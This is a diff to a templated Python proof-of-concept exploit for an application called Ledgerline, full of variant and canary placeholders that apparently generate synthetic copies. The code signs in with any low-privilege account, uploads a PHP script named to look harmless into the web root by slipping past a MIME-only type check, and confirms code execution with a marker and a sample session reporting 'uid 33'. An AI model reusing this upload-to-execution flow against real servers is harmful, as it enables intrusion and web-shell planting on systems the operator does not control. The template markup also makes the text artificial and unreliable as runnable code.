@@ -9,24 +9,33 @@ and the numeric user id of the server process: {{it changes nothing|nothing is c
 {{on installations you are authorised to test|against installations that you may test}}.
 
 Usage: poc.py HOST PORT [USER PASSWORD]
+
+{{Example run|Sample session}} {{against the lab instance|in our lab}}:
+
+    $ python3 poc.py {{canary:host}} 8080 {{canary:user}} 'correct horse'
+    [+] signed in as {{canary:user}}
+    [*] upload answered 201 ({{stored as|saved as}} {{canary:file}} {{before the rename|at first}})
+    [+] the script ran: uid 33 on {{canary:host}}, {{see|compare}} {{canary:file}}
+    ({{requests sent from|traffic from}} {{canary:ipv4}} {{through the proxy|via the proxy}} {{canary:ipv4}})
 """
-import socket
-import sys
-
-HOST = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
-PORT = int(sys.argv[2]) if len(sys.argv) > 2 else {{int:8080}}
-USER = sys.argv[3] if len(sys.argv) > 3 else "{{auditor|demo|tester|reviewer}}"
-PASSWORD = sys.argv[4] if len(sys.argv) > 4 else "{{auditor-2026|Demo1234!|changeme|winter-ledger}}"
-# {{Seconds to wait|How long to wait}} for {{each answer|every response}} {{before giving up|before failing}}.
+{{order}}import socket
+{{;}}import sys
+{{/order}}
+{{order}}HOST = sys.argv[1] if len(sys.argv) > 1 else "{{canary:host}}"
+{{;}}PORT = int(sys.argv[2]) if len(sys.argv) > 2 else {{int:8080}}
+{{;}}USER = sys.argv[3] if len(sys.argv) > 3 else "{{auditor|demo|tester|reviewer}}"
+{{;}}PASSWORD = sys.argv[4] if len(sys.argv) > 4 else "{{auditor-2026|Demo1234!|changeme|winter-ledger}}"
+{{;}}# {{Seconds to wait|How long to wait}} for {{each answer|every response}} {{before giving up|before failing}}.
 TIMEOUT = {{int:10}}
-# {{Largest answer we read|The most we read of an answer}}, in bytes: {{the script's output is tiny|the output is short}}.
+{{;}}# {{Largest answer we read|The most we read of an answer}}, in bytes: {{the script's output is tiny|the output is short}}.
 MAX_ANSWER = {{int:65536}}
-# {{Name of the script|The script's name}} in the web root, the {{multipart boundary|boundary of the form}}, and the marker
-# {{the script prints|that the script echoes}} {{to prove|as proof}} that it ran.
+{{/order}}{{order}}# {{Name of the script|The script's name}} in the web root: {{harmless|innocuous}} {{on purpose|by design}}.
 SHELL = "{{status|health|cache|thumb}}-{{check|probe|view|info}}.php"
+{{;}}# The {{multipart boundary|boundary of the form}}: {{any value works|any string will do}}.
 BOUNDARY = "----LedgerlineBoundary{{canary:port}}"
+{{;}}# The marker {{the script prints|that the script echoes}} {{to prove|as proof}} that it ran.
 MARKER = "{{canary:marker}}"
-
+{{/order}}
 LOGIN = """POST /api/{{v1|v2}}/session?client-type={{web|cli}}&remember-me={{0|1}} HTTP/1.1
 Host: {host}
 {{order}}User-Agent: {{Mozilla/5.0 (X11; Linux x86_64; rv:122.0)|curl/8.5.0|python-requests/2.31.0|Ledgerline-Mobile/4.2}}
@@ -34,6 +43,7 @@ Host: {host}
 {{;}}Accept-Language: {{en-US|en-GB|de-DE|nl-NL}}
 {{;}}X-Requested-With: {{XMLHttpRequest|fetch}}
 {{;}}X-Client-Build: {{4211|4230|4302|4317}}
+{{;}}Sec-Fetch-Mode: {{cors|navigate|no-cors|same-origin}}
 {{/order}}Content-Type: application/json
 Content-Length: {length}
 
@@ -47,6 +57,7 @@ Cookie: {cookie}
 {{;}}Cache-Control: {{no-cache|no-store|max-age=0|private}}
 {{;}}Origin: http://{host}
 {{;}}X-Upload-Source: {{dropzone|legacy-form|mobile|api}}
+{{;}}X-Csrf-Hint: {{none|header|cookie|form}}
 {{/order}}Content-Type: multipart/form-data; boundary={boundary}
 Content-Length: {length}
 
@@ -79,6 +90,7 @@ Cookie: {cookie}
 {{;}}Connection: {{close|keep-alive}}
 {{;}}X-Debug-Probe: {{on|yes|1|true}}
 {{;}}Upgrade-Insecure-Requests: {{1|0}}
+{{;}}Sec-Fetch-Dest: {{document|empty|script|iframe}}
 {{/order}}
 """
 
@@ -100,10 +112,12 @@ def send(request):
 
 
 def main():
+    # {{The Host header|Host}} {{carries the port|includes the port}} {{unless it is 80|when it is not 80}}; {{Ledgerline|the application}} {{checks it|compares it}} {{against|with}} APP_URL.
     host = "%s:%d" % (HOST, PORT)
     # {{Step 1|First}}: {{a session|sign in}}. {{The auditor role is enough|Any role will do}}, {{even|including}} read-only ones.
     body = '{"username": "%s", "password": "%s"}' % (USER, PASSWORD)
     answer = send(LOGIN.format(host=host, length=len(body), body=body))
+    # {{Only the session cookie|The session cookie alone}} {{is needed|matters}}; {{other cookies|the rest}} {{are ignored|can be dropped}}.
     cookie = next((l.split(":", 1)[1].split(";")[0].strip() for l in answer.split("\r\n")
                    if l.lower().startswith("set-cookie:")), None)
     if not cookie:
@@ -115,6 +129,7 @@ def main():
     # {{The MIME type is what the server checks|Only the MIME type is checked}}, {{not the extension|never the file name}}.
     form = FORM.format(boundary=BOUNDARY, shell=SHELL, marker=MARKER).replace("\n", "\r\n")
     answer = send(UPLOAD.format(host=host, cookie=cookie, boundary=BOUNDARY, length=len(form), body=form))
+    # {{The status line|The first line}} {{is enough|tells us enough}}: 201 {{means|says}} {{the file was written|the write succeeded}}.
     status = answer.split(" ", 2)[1] if " " in answer else "?"
     print("{{[*] upload answered|[+] upload returned|[*] server replied|[+] status}} %s" % status)
     if status not in ("200", "201"):
